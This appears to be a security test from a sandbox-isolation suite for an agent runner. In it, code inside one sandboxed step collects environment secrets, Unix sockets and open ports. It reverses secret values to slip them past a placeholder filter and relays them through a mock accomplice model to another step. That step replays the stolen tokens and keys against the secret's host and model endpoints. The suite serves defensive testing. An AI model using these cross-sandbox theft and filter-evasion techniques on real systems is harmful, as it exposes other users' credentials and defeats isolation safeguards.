"""What another sandbox holds, used from one's own: its keys, addresses, sockets, placeholders; of a living step and of ended ones"""

import contextlib
import http.client
import json
import os
import re
import socket
import ssl
import threading
from pathlib import Path

from attack import Host, Ran, Setup, runner_socket, settings_of_model, won
from attack import Trick as Base

KEY = "the-key-of-the-provider"
GUESSED = "wflo-key-of-another"
STEPS, RUNS = ("attack-0", "attack-1"), ("first", "second")


class Accomplice:
    """A model that passes on what steps tell it, and remembers who came with which key."""

    def __init__(self) -> None:
        self.told: dict[str, dict] = {}
        self.keys: set[str] = set()
        self.calls: dict[str, int] = {}
        self.changed = threading.Condition()

    def answer(self, client: socket.socket) -> None:
        with contextlib.suppress(OSError):
            head, body = request(client)
            said = json.loads(json.loads(body)["messages"][-1]["content"])
            with self.changed:
                self.keys.update(re.findall(r"(?im)^authorization: (.*?)\r?$", head))
                self.calls[said["me"]] = self.calls.get(said["me"], 0) + 1
                if "holds" in said:
                    self.told[said["me"]] = said["holds"]
                    self.changed.notify_all()
                    # The other step of the run is there too, and stays until it has been told of this one.
                    run = said["me"].split()[0]
                    self.changed.wait_for(lambda: all(f"{run} {step}" in self.told for step in STEPS), 60)
                others = [held for whose, held in self.told.items() if whose != said["me"]]
            usage = {"prompt_tokens": 1000, "completion_tokens": 0, "total_tokens": 1000}
            message = {"role": "assistant", "content": json.dumps(others)}
            choice = {"index": 0, "message": message, "finish_reason": "stop"}
            reply = {"id": "1", "object": "chat.completion", "model": "m", "choices": [choice], "usage": usage}
            respond(client, json.dumps(reply).encode())


class Place:
    """The host that a secret belongs to: it remembers what stood in its place."""

    def __init__(self, context: ssl.SSLContext) -> None:
        self.context = context
        self.seen: list[tuple[str, str]] = []

    def answer(self, client: socket.socket) -> None:
        with contextlib.suppress(OSError), self.context.wrap_socket(client, server_side=True) as stream:
            head, _ = request(stream)
            whose = re.search(r"(?im)^x-whose: (.*?)\r?$", head)
            given = re.search(r"(?im)^authorization: (.*?)\r?$", head)
            self.seen.append((whose[1] if whose else "", given[1] if given else ""))
            respond(stream, b"received")


def request(stream: socket.socket) -> tuple[str, bytes]:
    seen = b""
    while b"\r\n\r\n" not in seen:
        if not (more := stream.recv(65536)):
            raise ConnectionError
        seen += more
    head, body = seen.split(b"\r\n\r\n", 1)
    length = re.search(rb"(?im)^content-length: (\d+)", head)
    while length and len(body) < int(length[1]):
        body += stream.recv(65536)
    return head.decode(errors="replace"), body


def respond(stream: socket.socket, body: bytes) -> None:
    head = (
        f"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    )
    stream.sendall(head.encode() + body)


def holds() -> dict:
    """All that could be worth something elsewhere."""
    names = {line.split()[-1] for line in Path("/proc/net/unix").read_text().splitlines()[1:]}
    with socket.socket(fileno=os.dup(runner_socket())) as runner:
        names.update(str(name) for name in (runner.getsockname(), runner.getpeername()) if name)
    ports = {int(line.split()[1].rsplit(":")[-1], 16) for line in Path("/proc/net/tcp").read_text().splitlines()[1:]}
    # Backwards: a placeholder as it stands is not let through to a model.
    held = {name: value[::-1] for name, value in os.environ.items() if len(value) < 500}
    return {"environment": held, "unix": sorted(name for name in names if name[:1] in "/@"), "ports": sorted(ports)}


def model(address: str, key: str, said: dict) -> str:
    """What the model says, asked at this address with this key."""
    where = re.sub(r"^https?://", "", address).split("/")[0]
    connection = http.client.HTTPConnection(where, timeout=120)
    body = json.dumps({"model": "m", "max_tokens": 1, "messages": [{"role": "user", "content": json.dumps(said)}]})
    headers = {"Authorization": f"Bearer {key}", "Content-Type": "application/json"}
    connection.request("POST", "/v1/chat/completions", body, headers)
    reply = json.loads(connection.getresponse().read())
    if "choices" not in reply:
        raise OSError(reply)
    return reply["choices"][0]["message"]["content"]


def send(at: str, held: str, whose: str) -> None:
    """A secret's placeholder, to where the secret belongs."""
    proxy = re.sub(r"^https?://", "", os.environ["HTTPS_PROXY"]).split("/")[0].rpartition("@")[2].split(":")
    context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
    with socket.create_connection((proxy[0], int(proxy[1])), timeout=5) as stream:
        stream.sendall(f"CONNECT {at} HTTP/1.1\r\nHost: {at}\r\n\r\n".encode())
        stream.recv(4096)
        with context.wrap_socket(stream, server_hostname=at.split(":")[0]) as tls:
            lines = [
                f"GET / HTTP/1.1\r\nHost: {at}",
                f"X-Whose: {whose}",
                f"Authorization: {held}",
                "Connection: close",
            ]
            tls.sendall("\r\n".join(lines).encode() + b"\r\n\r\n")
            print(whose, tls.recv(4096)[:60])


class Trick(Base):
    area = "protocol"
    no_control = "without a sandbox nothing is held that is worth something elsewhere"

    def prepare(self, host: Host) -> Setup:
        self.model, self.place = Accomplice(), Place(host.certified("127.0.0.2"))
        at = f"127.0.0.2:{host.serve('127.0.0.2', self.place.answer)}"
        setup = Setup(at)
        setup.project = host.dir("project")
        setup.steps, setup.runs = len(STEPS), list(RUNS)
        setup.shown = [["runs", "show", "latest", "--json"]]
        setup.env = {"A_KEY": KEY, "API_TOKEN": host.token}
        setup.settings = f"""
allow_hosts = ["https://{at}/**"]
ca_file = "{host.folder / "authority/ca.pem"}"
[secrets.api]
env = "API_TOKEN"
value_env = "API_TOKEN"
hosts = ["{at}"]
headers = ["authorization"]
""" + settings_of_model(host.serve("127.0.0.1", self.model.answer))
        return setup

    def inside(self, at: str, run: str, step: str) -> None:
        me, own = f"{run} {step}", holds()
        address, key = os.environ["OPENAI_BASE_URL"], os.environ["OPENAI_API_KEY"]
        others = json.loads(model(address, key, {"me": me, "holds": own}))
        send(at, os.environ["API_TOKEN"], "own")
        for other in others:
            held = {name: value[::-1] for name, value in other["environment"].items()}
            if held["API_TOKEN"] != os.environ["API_TOKEN"]:
                send(at, held["API_TOKEN"], "other")
            for name in set(other["unix"]) - set(own["unix"]):
                with socket.socket(socket.AF_UNIX) as client, contextlib.suppress(OSError):
                    client.connect(name.replace("@", "\0", 1))
                    won(name)
            for port in set(other["ports"]) - set(own["ports"]):
                with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=2):
                    won(f"port {port}")
            # Wherever it leads, with the other's keys: whoever answers, it is this step's call.
            for where in (held["OPENAI_BASE_URL"], address):
                for given in (held["OPENAI_API_KEY"], held["API_TOKEN"], GUESSED):
                    try:
                        model(where, given, {"me": me, "with": given[::-1]})
                    except (OSError, ValueError, LookupError) as error:
                        print(where, given, error)

    def escaped(self, host: Host, ran: Ran) -> str | None:
        runs = [json.loads(line) for line in ran.output.splitlines() if line.startswith('{"')]
        assert [run["status"] for run in runs] == ["completed"] * len(RUNS), ran
        assert ("own", host.token) in self.place.seen, self.place.seen
        if wrong := [given for whose, given in self.place.seen if whose == "other" and given == host.token]:
            return f"the value of a secret for {len(wrong)} placeholders of an ended run"
        assert any(whose == "other" for whose, _ in self.place.seen), self.place.seen
        if self.model.keys != {f"Bearer {KEY}"}:
            return f"calls with other keys: {self.model.keys}"
        for run, word in zip(runs, RUNS, strict=True):
            for step in run["steps"]:
                made = self.model.calls[f"{word} {step['name']}"]
                if float(step["cost_usd"]) != made:
                    return f"{word} {step['name']} made {made} calls of 1 USD and paid {step['cost_usd']}"
        return super().escaped(host, ran)
